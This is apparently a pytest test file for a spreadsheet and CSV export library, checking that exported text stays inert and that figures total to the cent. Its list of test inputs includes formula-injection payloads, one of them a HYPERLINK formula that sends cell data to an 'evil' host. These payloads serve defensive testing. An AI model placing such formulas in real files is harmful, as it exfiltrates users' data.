"""Workbooks and CSV files: text stays text, figures agree to the cent."""

import csv
import doctest
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from io import BytesIO, StringIO
from zipfile import ZipFile

import openpyxl
import pytest
from cs_base_engine import sheet_text
from cs_base_engine.sheet_in import read_table
from cs_base_engine.sheet_out import Book, Column, Sheet, write_csv, write_xlsx
from cs_base_engine.sheet_text import (
    CELL_LIMIT,
    clean_text,
    csv_escape,
    csv_unescape,
    fit_cell,
    looks_active,
    sheet_name,
)
from hypothesis import example, given, settings
from hypothesis import strategies as st

ACTIVE = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1)",
    "{=1+1}",
    "http://example.com/",
    "mailto:a@example.com",
    "007",
    "1e5",
    "'=1+1",
    "''",
    "_x000D_",
    "<b>&amp;</b>",
    "{{7*7}}",
    "\u202eevil",
    "张伟 = 客服",
]


def texts_book(texts, **options):
    sheet = Sheet("Texts", [Column("text", "Text")], [[text] for text in texts])
    return write_xlsx(Book([sheet], **options))


def xml_of(content, part="xl/worksheets/sheet1.xml"):
    with ZipFile(BytesIO(content)) as parts:
        return parts.read(part).decode()


def loaded(content):
    return openpyxl.load_workbook(BytesIO(content), data_only=True)


def test_doctests():
    failed, tried = doctest.testmod(sheet_text)
    assert tried and not failed


@pytest.mark.parametrize("streaming", [False, True])
def test_text_never_becomes_a_formula_number_or_link(streaming):
    content = texts_book(ACTIVE, streaming=streaming)
    assert "<f>" not in xml_of(content)
    assert "<hyperlink" not in xml_of(content)
    cells = [row[0] for row in loaded(content)["Texts"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert len(cells) == len(ACTIVE)
    rows = list(read_table(content).rows)[1:]
    assert [row.cells[0] for row in rows] == ACTIVE


def test_active_text_stays_text_when_somebody_edits_the_cell():
    content = texts_book(["=1+1", "plain"])
    active, plain = (f"A{row}" for row in (2, 3))
    sheet = loaded(content)["Texts"]
    assert sheet[active].quotePrefix
    assert sheet[plain].number_format == "@"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=50), min_size=1, max_size=20), st.booleans())
@example([text[:31] for text in ACTIVE], True)
def test_any_text_round_trips(texts, streaming):
    content = texts_book(texts, streaming=streaming)
    cells = {row.number: row.cells[0] for row in read_table(content).rows}
    expected = {row: clean_text(text) for row, text in enumerate(texts, 2)}
    assert cells == {1: "Text", **{row: text for row, text in expected.items() if text}}


def test_control_characters_are_cleaned_and_cuts_are_visible():
    assert clean_text("Li\x00 \x1bNa\x7f\ufffe\ud800!") == "Li Na\ufffd!"
    assert clean_text("a\tb\r\nc") == "a\tb\r\nc"
    assert fit_cell("x" * CELL_LIMIT) == "x" * CELL_LIMIT
    cut = fit_cell("x" * (CELL_LIMIT + 1))
    assert len(cut) == CELL_LIMIT
    assert cut.endswith("x … [32767 / 32768]")


def test_a_cut_counts_as_the_spreadsheet_does():
    cut = fit_cell("😀" * 20_000)
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert cut.endswith(" … [32767 / 40000]")
    assert set(cut[: cut.index(" ")]) == {"😀"}
    assert fit_cell("😀" * 16_383) == "😀" * 16_383


@settings(deadline=None)
@given(st.text())
def test_sheet_names_are_acceptable(wanted):
    name = sheet_name(wanted, set())
    assert name and len(name.encode("utf-16-le")) <= 62
    assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name)
    assert name == name.strip(" '") and name.lower() != "history"


def test_sheet_names_differ():
    taken = set()
    for _ in range(12):
        name = sheet_name(
            "2025/03: [客服部] 奖金与扣款明细表(含申诉)以及说明和备注", taken
        )
        assert len(name) <= 31 and name.lower() not in taken
        taken.add(name.lower())
    sheets = [Sheet(name, [Column("a", "A")], []) for name in ("March", "MARCH", "'")]
    assert loaded(write_xlsx(Book(sheets))).sheetnames == [
        "March",
        "MARCH (2)",
        "Sheet",
    ]


COLUMNS = [
    Column("name", "员工"),
    Column("days", "Days", "integer", total=True),
    Column("hours", "Hours", "duration", total=True),
    Column("rate", "Rate", "percent"),
    Column("bonus", "Bonus", "money", total=True),
    Column("day", "Day", "date"),
    Column("at", "At", "datetime"),
]
ROWS = [
    {
        "name": "张伟",
        "days": 22,
        "hours": timedelta(hours=30, minutes=30),
        "rate": Decimal("0.725"),
        "bonus": Decimal("3240.10"),
        "day": date(2025, 3, 31),
        "at": datetime(2025, 3, 31, 8, 30, 5),
    },
    {"name": "李娜", "days": 0, "bonus": 0.2, "day": False},
    ("王", 1, timedelta(0), 0, Decimal("0.005"), None, None),
]


def finance(**options):
    return Sheet("Finance", COLUMNS, ROWS, **options)


def test_values_have_their_types():
    sheet = loaded(write_xlsx(Book([finance()])))["Finance"]
    row = [cell.value for cell in sheet[2]]
    assert row[0] == "张伟" and row[1] == 22
    assert row[2] == timedelta(hours=30, minutes=30)
    assert row[3:5] == [0.725, 3240.1]
    assert row[5:] == [datetime(2025, 3, 31), datetime(2025, 3, 31, 8, 30, 5)]
    assert [cell.number_format for cell in sheet[2]] == [
        "@",
        "#,##0",
        "[h]:mm",
        "0.00%",
        "#,##0.00",
        "yyyy-mm-dd",
        "yyyy-mm-dd hh:mm",
    ]
    assert [cell.value for cell in sheet[3]] == [
        *("李娜", 0),
        *2 * (None,),
        0.2,
        None,
        None,
    ]


@pytest.mark.parametrize("streaming", [False, True])
def test_totals_are_formulas_that_carry_their_value(streaming):
    """INC-32: 3 240.10 + 0.20 + 0.01 (0.005, half up) = 3 240.31."""
    content = write_xlsx(Book([finance(total_label="合计")], streaming=streaming))
    sheet = loaded(content)["Finance"]
    assert [cell.value for cell in sheet[5]] == [
        "合计",
        23,
        timedelta(hours=30, minutes=30),
        None,
        3240.31,
        None,
        None,
    ]
    formulas = re.findall("<f>([^<]*)</f>", xml_of(content))
    assert formulas == ["SUM(B2:B4)", "SUM(C2:C4)", "SUM(E2:E4)"]
    written = [sheet.cell(row, 5).value for row in (2, 3, 4)]
    assert round(sum(written), 2) == 3240.31


@settings(deadline=None)
@given(st.lists(st.decimals(-(10**9), 10**9, places=2), max_size=30))
def test_the_total_is_the_sum_to_the_cent(amounts):
    columns = [Column("a", "A"), Column("b", "B", "money", total=True)]
    rows = [["x", amount] for amount in amounts]
    content = write_xlsx(Book([Sheet("S", columns, rows)]))
    total = list(read_table(content).rows)[-1].cells[1]
    assert total.quantize(Decimal("0.01")) == sum(amounts)


def test_a_total_of_nothing_is_zero():
    content = write_xlsx(Book([Sheet("S", COLUMNS, [])]))
    assert [cell.value for cell in loaded(content)["S"][2]][:2] == ["Total", 0]
    assert "<f>" not in xml_of(content)


def test_figures_a_spreadsheet_cannot_hold_are_written_out():
    columns = [Column("b", "B", "money", total=True), Column("h", "H", "duration")]
    huge = Decimal("99999999999999.99")
    rows = [[huge, timedelta(hours=-1, minutes=-30)], [Decimal("0.01"), None]]
    sheet = loaded(write_xlsx(Book([Sheet("S", columns, rows)])))["S"]
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == [
        "99999999999999.99",
        0.01,
        "100000000000000.00",
    ]
    assert sheet["B2"].value == "-1:30"


def test_days_before_excels_calendar_are_text():
    sheet = Sheet("S", [Column("d", "D", "date")], [[date(1899, 12, 31)]])
    assert loaded(write_xlsx(Book([sheet])))["S"]["A2"].value == "1899-12-31"


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("money", float("nan")),
        ("money", Decimal("Infinity")),
        ("money", "12"),
        ("money", False),
        ("integer", 1.5),
        ("integer", True),
        ("percent", "10%"),
        ("date", datetime(2025, 3, 31)),
        ("date", "2025-03-31"),
        ("datetime", date(2025, 3, 31)),
        ("duration", 3600),
    ],
)
def test_a_value_of_the_wrong_type_is_named(kind, value):
    sheet = Sheet("S", [Column("amount", "A", kind)], [[value]])
    for write in (lambda: write_xlsx(Book([sheet])), lambda: write_csv(sheet)):
        with pytest.raises(ValueError, match="row 2, column amount"):
            write()


def test_layout_for_reading_and_printing():
    sheet = finance(
        title="奖惩月结", subtitles=["2025-03"], notes=["=note"], frozen_columns=1
    )
    content = write_xlsx(Book([sheet], title="Finance copy", author="cs"))
    book = loaded(content)
    page = book["Finance"]
    assert [page.cell(row, 1).value for row in (1, 2, 3, 4, 8, 9, 10)] == [
        "奖惩月结",
        "2025-03",
        None,
        "员工",
        "Total",
        None,
        "=note",
    ]
    assert page.freeze_panes == "B5"
    assert page.auto_filter.ref == "A4:G7"
    assert page.print_title_rows == "$4:$4"
    assert page.page_setup.orientation == "landscape"
    assert str(page.page_setup.paperSize) == "9"
    assert page.page_setup.fitToHeight == 0 and page.sheet_properties.pageSetUpPr
    assert page.oddFooter.center.text == "&P / &N"
    assert book.properties.title == "Finance copy"
    assert page.column_dimensions["A"].width > len("员工") * 2


def test_a_column_must_be_summable_and_known():
    with pytest.raises(ValueError, match="summed"):
        Column("a", "A", total=True)
    with pytest.raises(ValueError, match="unknown type"):
        Column("a", "A", "formula")


def test_csv_is_inert_and_recoverable():
    sheet = Sheet("S", [Column("t", "=T")], [[text] for text in ACTIVE])
    content = write_csv(sheet)
    assert content.startswith(b"\xef\xbb\xbf")
    records = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
    assert not any(looks_active(record[0]) for record in records)
    assert [csv_unescape(record[0]) for record in records] == ["=T", *ACTIVE]
    rows = [row.cells[0] for row in read_table(content).rows]
    assert rows == ["=T", *ACTIVE]


@settings(deadline=None)
@given(st.text())
def test_escaping_is_undone_exactly(text):
    assert csv_unescape(csv_escape(text)) == text
    assert not looks_active(csv_escape(text))


def test_csv_figures_are_plain():
    content = write_csv(finance()).decode("utf-8-sig")
    assert content.splitlines()[1:] == [
        '"张伟","22","30:30","0.725","3240.10","2025-03-31","2025-03-31 08:30:05"',
        '"李娜","0","","","0.20","",""',
        '"王","1","0:00","0","0.01","",""',
    ]
